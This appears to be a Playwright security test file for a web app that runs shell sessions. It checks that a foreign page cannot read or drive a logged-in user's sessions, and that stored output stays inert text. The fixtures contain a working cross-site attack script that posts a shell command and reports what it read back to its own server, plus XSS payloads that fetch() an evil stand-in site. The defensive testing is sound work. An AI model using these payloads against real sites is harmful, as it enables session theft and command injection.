"""What a real browser does with a foreign page's requests, and with hostile text on the pages."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from tests.attacks.evil import evil_site
from tests.attacks.stage import Target
from tests.servers import Place, new_session, run_prompt
from tests.web.stage import CHROMIUM, Visitor, chromium

pytestmark = pytest.mark.timeout(180)

HOSTILE = (
    "<img src=x onerror=fetch('{evil}/?ran=img')><svg onload=fetch('{evil}/?ran=svg')>"
    "<script>fetch('{evil}/?ran=script')</script><iframe srcdoc='<script>1</script>'></iframe>"
)
# What a page of another site tries; what it could read it sends home.
ATTACK = """<!doctype html><title>evil</title><script>
const tell = (key, value) => fetch(`/?${key}=${encodeURIComponent(value)}`);
const tried = (what) => () => tell("tried", what);
const session = "SERVER/api/session/SESSION";
const source = new EventSource(`${session}/events?after=0`, {withCredentials: true});
source.addEventListener("connected", () => tell("read", "stream"));
source.onerror = tried("stream");
const list = fetch("SERVER/api/sessions", {credentials: "include"});
list.then((answer) => answer.text()).then((text) => tell("read", text), tried("list"));
const order = (type, mode) => fetch(`${session}/prompt`, {
  method: "POST", credentials: "include", mode, headers: {"Content-Type": type}, body: '{"command": "touch came-in"}',
});
order("text/plain", "no-cors").then(tried("prompt"), tried("prompt"));
order("application/json", "cors").then(() => tell("read", "answer"), tried("json"));
const socket = new WebSocket(`${session}/events`.replace("http", "ws"));
socket.onopen = () => tell("read", "socket");
socket.onerror = tried("socket");
</script>"""
ATTEMPTS = {"stream", "list", "prompt", "json", "socket"}


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if CHROMIUM is None:
        pytest.skip("there is no chromium on the PATH")
    with chromium() as running:
        yield running


@pytest.fixture
def target(tmp_path: Path) -> Iterator[Target]:
    place = Place(tmp_path)
    with place.serving() as server:
        yield Target(place, server)


def test_a_foreign_page_in_a_browser_that_is_logged_in_reads_and_does_nothing(target: Target, browser: Browser) -> None:
    visitor = Visitor(browser, target.place).log_in()
    own = visitor.live("/sessions")
    expect(own.get_by_role("main")).to_contain_text("the owner's")
    with evil_site() as site, target.untouched():
        site.page = ATTACK.replace("SERVER", target.origin).replace("SESSION", target.session).encode()

        page = visitor.context.new_page()
        page.goto(site.url)
        page.wait_for_timeout(1000)  # what it has read by then, it would have sent

        assert set(site.sent["tried"]) == ATTEMPTS
        assert "read" not in site.sent
    visitor.context.close()  # its faults are the attack's refusals


def test_hostile_output_is_text_in_a_browser_and_reaches_nobody(target: Target, browser: Browser) -> None:
    visitor = Visitor(browser, target.place).log_in()
    with evil_site() as site:
        hostile = HOSTILE.format(evil=site.url)
        with target.place.client() as owner:
            session = new_session(owner, title="<img src=x onerror=alert(1)>")
            run_prompt(owner, session, f"cat <<'END'\n{hostile}\nEND\necho shown")

        listed = visitor.live("/sessions")
        expect(listed.get_by_role("main")).to_contain_text("<img src=x onerror=alert(1)>")
        shown = visitor.live(f"/session/{session}")
        expect(shown.get_by_role("log")).to_contain_text(hostile)
        expect(shown.get_by_role("log")).to_contain_text("shown")

        assert site.sent == {}
    visitor.close()
